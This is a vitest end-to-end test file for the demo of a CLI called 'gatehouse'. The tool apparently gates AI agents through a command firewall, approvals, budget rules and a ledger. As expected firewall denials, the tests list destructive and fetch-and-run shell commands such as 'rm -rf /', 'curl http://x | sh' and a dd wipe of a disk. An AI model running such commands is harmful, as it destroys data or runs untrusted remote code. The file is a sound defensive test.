// `gatehouse demo` end to end: the real CLI process runs the engine, the demo approver and the simulated
// gateway; afterwards the demo's own store (tasks, ledger, prompts, alerts, agents) must show that every
// part moved. Also: it refuses a state dir it did not make, never writes to the user's config or state,
// and in a real terminal shows the DEMO console and quits on q.
import Database from 'better-sqlite3';
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { TASK_STATUSES } from '../../../src/shared/task.js';
import { BIN, cli } from '../../support/engine.js';
import { TmuxServer, hasTmux } from '../../support/tmuxPane.js';

function runCli(args: string[], env: NodeJS.ProcessEnv, timeoutMs = 90_000): Promise<{ code: number | null; out: string }> {
  return new Promise((resolve, reject) => {
    const p = spawn(process.execPath, [BIN, ...args], { env: { ...process.env, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    p.stdout.on('data', (d) => (out += d));
    p.stderr.on('data', (d) => (out += d));
    const timer = setTimeout(() => {
      p.kill('SIGKILL');
      reject(new Error(`gatehouse ${args.join(' ')} did not end within ${timeoutMs} ms:\n${out}`));
    }, timeoutMs);
    p.once('exit', (code) => {
      clearTimeout(timer);
      resolve({ code, out });
    });
  });
}

interface LedgerRow {
  actor: string;
  action: string;
  detail: string;
  reason: string | null;
}

describe('gatehouse demo --no-tui', () => {
  const root = mkdtempSync(join(tmpdir(), 'gh-demo-'));
  const stateDir = join(root, 'demo-state');
  // Where the user's own gatehouse lives: the demo must not create or touch anything there.
  const userConfig = join(root, 'user-config');
  const userState = join(root, 'user-state');
  let run: { code: number | null; out: string };
  let db: Database.Database;

  const ledger = (action: string) => db.prepare('SELECT actor, action, detail, reason FROM ledger WHERE action = ? ORDER BY seq').all(action) as LedgerRow[];

  it('runs for its duration and exits 0, leaving the demo state in --state-dir', async () => {
    run = await runCli(['--state-dir', stateDir, 'demo', '--no-tui', '--duration', '8'], {
      XDG_CONFIG_HOME: userConfig,
      GATEHOUSE_STATE_DIR: userState,
      // A real approver the user configured: the demo must use its own, never this one.
      APPROVAL_SYSTEM_URL: 'http://127.0.0.1:9',
    });
    expect(run.code, run.out).toBe(0);
    expect(run.out).toMatch(/demo {2}summary: /);
    db = new Database(join(stateDir, 'gatehouse.db'), { readonly: true, fileMustExist: true });
  }, 120_000);

  it('showed tasks of every status, ending with actual costs', () => {
    const seen = new Set((db.prepare('SELECT DISTINCT to_status AS s FROM task_transitions').all() as Array<{ s: string }>).map((r) => r.s));
    for (const s of TASK_STATUSES) expect(seen, `no task ever reached ${s}`).toContain(s);
    const byType = db.prepare('SELECT DISTINCT task_type AS t FROM tasks').all() as Array<{ t: string }>;
    expect(byType.map((r) => r.t).sort()).toEqual(['batch', 'chat', 'workflow']);
    const costed = db.prepare("SELECT count(*) AS n FROM tasks WHERE status = 'completed' AND actual_cost > 0").get() as { n: number };
    expect(costed.n).toBeGreaterThan(0);
    // The gateway stopped the aborted task itself: it never reported it completed afterwards.
    const aborted = db.prepare("SELECT task_id FROM tasks WHERE status = 'aborted'").all() as Array<{ task_id: string }>;
    expect(aborted.length).toBeGreaterThan(0);
  });

  it('asked the firewall from several agents: asks opened, dangerous commands denied, MCP calls decided', () => {
    const decisions = ledger('firewall.decide').map((r) => ({ agent: r.actor, ...(JSON.parse(r.detail) as { decision: string; command?: string; tool?: string }) }));
    expect(new Set(decisions.map((d) => d.agent)).size).toBeGreaterThanOrEqual(3);
    expect(decisions.some((d) => d.decision === 'ask')).toBe(true);
    expect((db.prepare('SELECT count(*) AS n FROM prompts').get() as { n: number }).n).toBeGreaterThan(0);
    const denied = decisions.filter((d) => d.decision === 'deny').map((d) => d.command ?? d.tool);
    expect(denied).toContain('rm -rf /');
    expect(denied).toContain('curl http://x | sh');
    expect(denied).toContain('dd if=/dev/zero of=/dev/sda');
    expect(denied).toContain('filesystem/write_file');
    expect(decisions.find((d) => d.tool === 'filesystem/read_file')?.decision).toBe('allow');
    const agents = (db.prepare('SELECT name FROM agents').all() as Array<{ name: string }>).map((a) => a.name).sort();
    expect(agents).toEqual(['build-bot', 'main', 'research']);
  });

  it('the approver link changed state, against the demo approver, not the user’s', () => {
    const states = ledger('approver.link').map((r) => (JSON.parse(r.detail) as { state: string }).state);
    expect(states.length).toBeGreaterThan(0);
    expect(states.some((s) => s === 'degraded' || s === 'fallback')).toBe(true);
    const config = JSON.parse(readFileSync(join(stateDir, 'demo-config', 'gatehouse', 'config.json'), 'utf8')) as { approval: { assistant_url: string } };
    expect(config.approval.assistant_url).not.toBe('http://127.0.0.1:9');
    const decidedBy = (db.prepare('SELECT DISTINCT decided_by AS d FROM tasks WHERE decided_by IS NOT NULL').all() as Array<{ d: string }>).map((r) => r.d);
    expect(decidedBy).toContain('approver');
  });

  it('raised the security drill’s alerts: a tampered core file and an access-log attack', () => {
    const alerts = db.prepare('SELECT source, check_id AS check_, path FROM alerts').all() as Array<{ source: string; check_: string; path: string | null }>;
    expect(alerts.some((a) => a.source === 'integrity' && a.path?.endsWith('soul.md'))).toBe(true);
    expect(alerts.some((a) => a.source === 'api_audit' && a.check_ === 'sqli')).toBe(true);
  });

  it('kept the ledger intact and never touched the user’s config or state dir', () => {
    db.close();
    expect(cli(['--state-dir', stateDir, 'ledger', 'verify']).code).toBe(0);
    expect(existsSync(userConfig)).toBe(false);
    expect(existsSync(userState)).toBe(false);
    expect(existsSync(join(stateDir, 'demo-config', 'gatehouse', 'policy.yaml'))).toBe(true);
  });
});

describe('gatehouse demo --no-approver', () => {
  it('lets the budget rules decide what they can and leaves the rest to the operator', async () => {
    const stateDir = join(mkdtempSync(join(tmpdir(), 'gh-demo-budget-')), 'state');
    const r = await runCli(['--state-dir', stateDir, 'demo', '--no-tui', '--no-approver', '--duration', '6'], {});
    expect(r.code, r.out).toBe(0);
    const db = new Database(join(stateDir, 'gatehouse.db'), { readonly: true, fileMustExist: true });
    try {
      const rows = db.prepare('SELECT estimated_cost AS cost, task_type AS type, status, decided_by AS by FROM tasks').all() as Array<{ cost: number; type: string; status: string; by: string | null }>;
      // budget: {per_task: {batch: 5}, auto_approve_below_usd: 0.05}
      expect(rows.some((t) => t.by === 'budget' && t.cost <= 0.05 && t.status !== 'rejected')).toBe(true);
      expect(rows.some((t) => t.by === 'budget' && t.type === 'batch' && t.cost > 5 && t.status === 'rejected')).toBe(true);
      expect(rows.some((t) => t.by === 'operator')).toBe(true);
      expect(rows.every((t) => t.by !== 'approver' && t.by !== 'fallback')).toBe(true);
      const operator = db.prepare("SELECT count(*) AS n FROM task_transitions WHERE by = 'demo-operator' AND to_status IN ('approved', 'rejected')").get() as { n: number };
      expect(operator.n).toBeGreaterThan(0);
    } finally {
      db.close();
    }
  }, 120_000);
});

describe('gatehouse demo state dir', () => {
  it('refuses a state dir holding a gatehouse store it did not make, and leaves it alone', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'gh-demo-real-'));
    writeFileSync(join(dir, 'gatehouse.db'), 'not the demo’s');
    const r = await runCli(['--state-dir', dir, 'demo', '--no-tui', '--duration', '1'], {}, 30_000);
    expect(r.code).toBe(2);
    expect(r.out).toContain('the demo did not make');
    expect(readFileSync(join(dir, 'gatehouse.db'), 'utf8')).toBe('not the demo’s');
    expect(existsSync(join(dir, 'api-token'))).toBe(false);
  }, 40_000);
});

describe.skipIf(!hasTmux)('gatehouse demo in a terminal', () => {
  const tmux = new TmuxServer();
  afterAll(() => tmux.close());

  it('shows the console marked DEMO with the simulated tasks, and q stops everything', async () => {
    const root = mkdtempSync(join(tmpdir(), 'gh-demo-tui-'));
    const stateDir = join(root, 'state');
    mkdirSync(join(root, 'user-config'));
    const pane = tmux.console(stateDir, ['demo', '--speed', '2'], { XDG_CONFIG_HOME: join(root, 'user-config') });
    await pane.waitFor('DEMO');
    // Tasks submitted by the simulated gateway show up in the queue view.
    await pane.waitFor(/t-[0-9a-f]{6,}\s+(chat|workflow|batch)\s+\w+/);
    pane.keys('q');
    expect(await pane.exitCode()).toBe(0);
    expect(pane.terminalState()).toBe('0 1');
    // --state-dir keeps the state; the engine ended cleanly (lock and sentinel gone).
    expect(existsSync(join(stateDir, 'gatehouse.db'))).toBe(true);
    expect(existsSync(join(stateDir, 'gatehouse.lock'))).toBe(false);
    expect(existsSync(join(stateDir, 'sentinel.json'))).toBe(false);
  }, 120_000);
});
